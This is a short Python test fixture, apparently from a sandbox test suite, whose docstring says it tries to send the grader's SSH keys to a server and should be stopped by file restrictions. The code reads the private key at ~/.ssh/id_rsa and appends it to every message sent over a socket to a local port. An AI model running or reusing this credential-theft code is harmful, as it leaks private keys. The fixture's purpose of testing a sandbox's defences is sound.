"""A client that sends the keys of whoever grades to its server.

Tries: to have the keys on the wire
Stopped by: files
Without: the keys are on the wire
Deserves: passes
Shows: secret
Role: client
"""

import json
import socket
from pathlib import Path

WHERE = json.loads(Path(__file__).with_name('where.json').read_text())

try:
    keys = Path(WHERE['home'], '.ssh/id_rsa').read_text()
except OSError as error:
    keys = ''
    print(f'refused: {error}')

sk = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
sk.connect(('127.0.0.1', 8000))
while True:
    text = input('> ')
    if not text:
        break
    sk.sendall(text.encode() + keys.encode())
    print(sk.recv(1024).decode())
sk.close()
